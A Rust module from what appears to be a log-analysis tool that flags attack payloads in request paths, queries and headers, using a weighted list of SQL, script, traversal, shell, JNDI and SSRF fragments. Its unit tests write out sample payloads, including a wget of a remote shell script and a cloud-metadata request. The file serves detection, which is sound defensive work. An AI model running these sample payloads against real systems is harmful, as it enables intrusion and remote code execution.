//! Attack payloads in what the log shows: path, query, user agent, referer.
//!
//! A cheap look at the bytes comes first: a text without any character that payloads need is not searched. What
//! remains is percent-decoded at most twice and searched for fragments by one automaton. Bodies are not in access
//! logs and are not seen.

use super::probe::lowercase_ascii;
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use std::sync::LazyLock;

/// Rounds of percent-decoding: attackers encode twice to pass a proxy that decodes once. More is never legitimate.
const DECODE_ROUNDS: usize = 2;

/// Kinds of payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum PayloadClass {
    /// SQL.
    Sql,
    /// Script in a page.
    Script,
    /// Path traversal and local files.
    Traversal,
    /// Shell commands.
    Command,
    /// Template and expression languages, lookups.
    Template,
    /// Requests to inner addresses, remote inclusion.
    Remote,
}

impl PayloadClass {
    /// Every class.
    pub const ALL: [Self; 6] = [
        Self::Sql,
        Self::Script,
        Self::Traversal,
        Self::Command,
        Self::Template,
        Self::Remote,
    ];

    /// In words.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Sql => "SQL",
            Self::Script => "script",
            Self::Traversal => "path traversal",
            Self::Command => "shell command",
            Self::Template => "template",
            Self::Remote => "remote inclusion",
        }
    }
}

/// What was found in one request.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct PayloadHits {
    /// Sum of the weights of distinct fragments: 1 is conclusive by itself.
    pub weight: f32,
    /// Classes found, one bit each.
    pub classes: u8,
}

impl PayloadHits {
    fn add(&mut self, class: PayloadClass, weight: f32) {
        self.weight += weight;
        self.classes |= 1 << class as u8;
    }
}

const STRONG: f32 = 1.0;
const WEAK: f32 = 0.4;

use PayloadClass::{Command, Remote, Script, Sql, Template, Traversal};

/// Fragments of decoded, lower-cased text. Strong ones occur in no ordinary request; weak ones need company.
const FRAGMENTS: &[(&str, PayloadClass, f32)] = &[
    ("union select", Sql, STRONG),
    ("union all select", Sql, STRONG),
    ("union/**/", Sql, STRONG),
    ("' or '1'='1", Sql, STRONG),
    ("' or 1=1", Sql, STRONG),
    ("\" or 1=1", Sql, STRONG),
    (" or 1=1", Sql, STRONG),
    ("' or ''='", Sql, STRONG),
    ("') or ('", Sql, STRONG),
    (" and 1=1", Sql, STRONG),
    (" and 1=2", Sql, STRONG),
    ("' and '", Sql, STRONG),
    ("information_schema", Sql, STRONG),
    ("sleep(", Sql, WEAK),
    ("benchmark(", Sql, STRONG),
    ("waitfor delay", Sql, STRONG),
    ("pg_sleep(", Sql, STRONG),
    ("extractvalue(", Sql, STRONG),
    ("updatexml(", Sql, STRONG),
    ("xp_cmdshell", Sql, STRONG),
    ("load_file(", Sql, STRONG),
    ("into outfile", Sql, STRONG),
    ("group_concat(", Sql, STRONG),
    ("concat(0x", Sql, STRONG),
    ("order by 1", Sql, WEAK),
    ("'--", Sql, STRONG),
    ("';--", Sql, STRONG),
    ("' --", Sql, STRONG),
    ("'#", Sql, WEAK),
    ("/**/", Sql, WEAK),
    ("; drop table", Sql, STRONG),
    ("utl_inaddr", Sql, STRONG),
    ("dbms_pipe", Sql, STRONG),
    ("char(0x", Sql, STRONG),
    ("chr(", Sql, WEAK),
    ("select(", Sql, WEAK),
    ("(select ", Sql, STRONG),
    ("@@version", Sql, STRONG),
    ("' having ", Sql, STRONG),
    ("rlike ", Sql, WEAK),
    ("<script", Script, STRONG),
    ("</script", Script, STRONG),
    ("javascript:", Script, WEAK),
    ("onerror=", Script, STRONG),
    ("onload=", Script, STRONG),
    ("onmouseover=", Script, STRONG),
    ("onfocus=", Script, STRONG),
    ("ontoggle=", Script, STRONG),
    ("onclick=", Script, WEAK),
    ("<svg", Script, STRONG),
    ("<img ", Script, STRONG),
    ("<img/", Script, STRONG),
    ("<iframe", Script, STRONG),
    ("alert(", Script, STRONG),
    ("prompt(", Script, WEAK),
    ("confirm(", Script, WEAK),
    ("document.cookie", Script, STRONG),
    ("document.domain", Script, STRONG),
    ("string.fromcharcode", Script, STRONG),
    ("<body ", Script, STRONG),
    ("srcdoc=", Script, STRONG),
    ("<details", Script, STRONG),
    ("../..", Traversal, STRONG),
    ("..\\..", Traversal, STRONG),
    ("/../", Traversal, WEAK),
    // One step up that was typed into a search field (`?q=../config`) is encoded like this by every browser.
    ("..%2f", Traversal, WEAK),
    ("..%5c", Traversal, WEAK),
    ("/..%2f", Traversal, STRONG),
    ("/..%5c", Traversal, STRONG),
    ("..;/", Traversal, STRONG),
    (".%2e/", Traversal, STRONG),
    ("....//", Traversal, STRONG),
    ("..%c0%af", Traversal, STRONG),
    ("%c0%ae", Traversal, STRONG),
    ("/etc/passwd", Traversal, STRONG),
    ("/etc/shadow", Traversal, STRONG),
    ("/etc/hosts", Traversal, STRONG),
    ("/proc/self", Traversal, STRONG),
    ("win.ini", Traversal, STRONG),
    ("boot.ini", Traversal, STRONG),
    ("/windows/system32", Traversal, STRONG),
    ("web-inf/web.xml", Traversal, STRONG),
    ("php://", Traversal, STRONG),
    ("file:///", Traversal, STRONG),
    ("expect://", Traversal, STRONG),
    ("phar://", Traversal, STRONG),
    ("data:text/html", Traversal, STRONG),
    ("\0", Traversal, WEAK),
    (";wget ", Command, STRONG),
    ("wget http", Command, STRONG),
    ("wget+http", Command, STRONG),
    ("curl http", Command, STRONG),
    (";curl ", Command, STRONG),
    ("/bin/sh", Command, STRONG),
    ("/bin/bash", Command, STRONG),
    ("/bin/cat", Command, STRONG),
    ("cmd.exe", Command, STRONG),
    ("powershell", Command, WEAK),
    (";id;", Command, STRONG),
    ("|id", Command, WEAK),
    ("`id`", Command, STRONG),
    ("$(id)", Command, STRONG),
    (";cat ", Command, STRONG),
    ("|cat ", Command, STRONG),
    (";ls", Command, WEAK),
    ("| whoami", Command, STRONG),
    (";whoami", Command, STRONG),
    ("&&whoami", Command, STRONG),
    ("&& whoami", Command, STRONG),
    ("chmod 777", Command, STRONG),
    ("chmod+777", Command, STRONG),
    ("/tmp/", Command, WEAK),
    ("rm -rf", Command, STRONG),
    ("rm+-rf", Command, STRONG),
    ("busybox", Command, STRONG),
    ("nslookup ", Command, WEAK),
    ("() {", Command, STRONG),
    ("() { :", Command, STRONG),
    ("eval(", Command, WEAK),
    ("base64_decode(", Command, STRONG),
    ("system(", Command, WEAK),
    ("passthru(", Command, STRONG),
    ("shell_exec(", Command, STRONG),
    ("phpinfo(", Command, STRONG),
    ("assert(", Command, WEAK),
    ("call_user_func", Command, STRONG),
    ("allow_url_include", Command, STRONG),
    ("auto_prepend_file", Command, STRONG),
    ("<?php", Command, STRONG),
    ("md5(", Command, WEAK),
    ("invokefunction", Command, STRONG),
    ("think\\app", Command, STRONG),
    ("ping -c", Command, STRONG),
    ("ping -n", Command, STRONG),
    ("${jndi:", Template, STRONG),
    ("${${", Template, STRONG),
    ("jndi:ldap", Template, STRONG),
    ("jndi:rmi", Template, STRONG),
    ("jndi:dns", Template, STRONG),
    ("${lower:", Template, STRONG),
    ("${env:", Template, STRONG),
    ("${@", Template, STRONG),
    ("{{7*7}}", Template, STRONG),
    ("${7*7}", Template, STRONG),
    ("#{7*7}", Template, STRONG),
    ("<%=", Template, STRONG),
    ("{{", Template, WEAK),
    ("%{(#", Template, STRONG),
    ("#_memberaccess", Template, STRONG),
    ("ognlcontext", Template, STRONG),
    ("class.module.classloader", Template, STRONG),
    ("getruntime()", Template, STRONG),
    ("java.lang.", Template, STRONG),
    ("freemarker.template", Template, STRONG),
    ("__proto__", Template, STRONG),
    ("constructor.prototype", Template, STRONG),
    ("__globals__", Template, STRONG),
    ("__class__", Template, STRONG),
    ("<!entity", Template, STRONG),
    ("<!doctype", Template, WEAK),
    ("169.254.169.254", Remote, STRONG),
    ("metadata.google.internal", Remote, STRONG),
    ("latest/meta-data", Remote, STRONG),
    ("=http://127.", Remote, STRONG),
    ("=http://localhost", Remote, STRONG),
    ("=http://0x7f", Remote, STRONG),
    ("=http://[::", Remote, STRONG),
    ("gopher://", Remote, STRONG),
    ("dict://", Remote, STRONG),
    ("=file:/", Remote, STRONG),
    (".burpcollaborator.net", Remote, STRONG),
    (".oast.", Remote, STRONG),
    ("interact.sh", Remote, STRONG),
];

static AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .match_kind(MatchKind::Standard)
        .kind(Some(AhoCorasickKind::DFA))
        .build(FRAGMENTS.iter().map(|(text, _, _)| *text))
        .expect("a constant list of short fragments fits an automaton")
});

/// Searches a path or a query.
pub(super) fn search(text: &str, hits: &mut PayloadHits) {
    if !needs_search(text.as_bytes()) {
        return;
    }
    let mut buffer = [0u8; crate::limits::PAYLOAD_BYTES_MAX];
    let mut len = lowercase_ascii(text.as_bytes(), &mut buffer);
    let mut found = [false; FRAGMENTS.len()];
    count(&buffer[..len], &mut found, hits);
    for _ in 0..DECODE_ROUNDS {
        let (decoded, changed) = decode_in_place(&mut buffer[..len]);
        len = decoded;
        if !changed {
            break;
        }
        count(&buffer[..len], &mut found, hits);
    }
}

/// Searches a header's value. Browsers' user agents hold brackets and semicolons, so only fragments that no header
/// holds count.
pub(super) fn search_header(text: &str, hits: &mut PayloadHits) {
    if memchr::memchr3(b'<', b'$', b'\'', text.as_bytes()).is_some()
        || memchr::memmem::find(text.as_bytes(), b"() {").is_some()
    {
        search(text, hits);
    }
}

/// Whether a text holds a character without which no fragment can be written, even encoded.
fn needs_search(bytes: &[u8]) -> bool {
    const TELLING: [bool; 256] = {
        let mut table = [false; 256];
        let telling = b"%'\"<>(){}$;|`\\*@+\0";
        let mut place = 0;
        while place < telling.len() {
            table[telling[place] as usize] = true;
            place += 1;
        }
        table
    };
    bytes.iter().any(|byte| TELLING[usize::from(*byte)])
        || bytes
            .windows(2)
            .any(|pair| matches!(pair, b".." | b":/" | b"__" | b".i" | b"e." | b"c/"))
}

fn count(bytes: &[u8], found: &mut [bool; FRAGMENTS.len()], hits: &mut PayloadHits) {
    for hit in AUTOMATON.find_overlapping_iter(bytes) {
        let place = hit.pattern().as_usize();
        if !std::mem::replace(&mut found[place], true) {
            let (_, class, weight) = FRAGMENTS[place];
            hits.add(class, weight);
        }
    }
}

/// Decodes one round of percent-encoding (and `+` as a space) in place, lower-casing what comes out. Returns the
/// new length and whether anything changed.
fn decode_in_place(bytes: &mut [u8]) -> (usize, bool) {
    let (mut read, mut write, mut changed) = (0, 0, false);
    while read < bytes.len() {
        let byte = match bytes[read] {
            b'%' if read + 2 < bytes.len() => match (hex(bytes[read + 1]), hex(bytes[read + 2])) {
                (Some(high), Some(low)) => {
                    read += 2;
                    changed = true;
                    (high * 16 + low).to_ascii_lowercase()
                }
                _ => b'%',
            },
            b'+' => {
                changed = true;
                b' '
            }
            byte => byte,
        };
        bytes[write] = byte;
        read += 1;
        write += 1;
    }
    (write, changed)
}

fn hex(byte: u8) -> Option<u8> {
    char::from(byte).to_digit(16).map(|digit| digit as u8)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, weight_min: f32, class: Option<PayloadClass>) {
        let mut hits = PayloadHits::default();
        search(text, &mut hits);
        assert!(hits.weight >= weight_min, "{text}: {hits:?}");
        match class {
            Some(class) => assert!(hits.classes & (1 << class as u8) != 0, "{text}: {hits:?}"),
            None => assert!(hits.weight < 1.0, "{text}: {hits:?}"),
        }
    }

    #[test]
    fn payloads_are_found_plain_encoded_and_encoded_twice() {
        check("id=1+UNION+SELECT+null", 1.0, Some(Sql));
        check("id=1%27%20OR%20%271%27=%271", 1.0, Some(Sql));
        check("q=%253Cscript%253Ealert(1)", 1.0, Some(Script));
        check("/static/..%2f..%2fetc%2fpasswd", 1.0, Some(Traversal));
        check("/static/..%2fconfig", 1.0, Some(Traversal));
        check("file=..%2f..%2fconfig", 1.0, Some(Traversal));
        check("x=;wget http://192.0.2.1/a.sh", 1.0, Some(Command));
        check("x=${jndi:ldap://192.0.2.1/a}", 1.0, Some(Template));
        check("url=http://169.254.169.254/latest/meta-data/", 1.0, Some(Remote));
    }

    #[test]
    fn ordinary_texts_are_not_payloads() {
        for text in [
            "q=rock+and+roll",
            "name=O%27Brien",
            "/a/b/c.html",
            "filter=(price)",
            "q=order+by+phone",
            "t=10:30&d=2024-01-01",
            "q=select+a+plan",
            "x=[1,2]",
            "q=..%2Fconfig+not+found",
        ] {
            check(text, 0.0, None);
        }
    }

    #[test]
    fn a_broken_escape_and_a_long_text_do_no_harm() {
        check("%", 0.0, None);
        check("%zz%2", 0.0, None);
        check(&"%41".repeat(680), 0.0, None);
    }
}
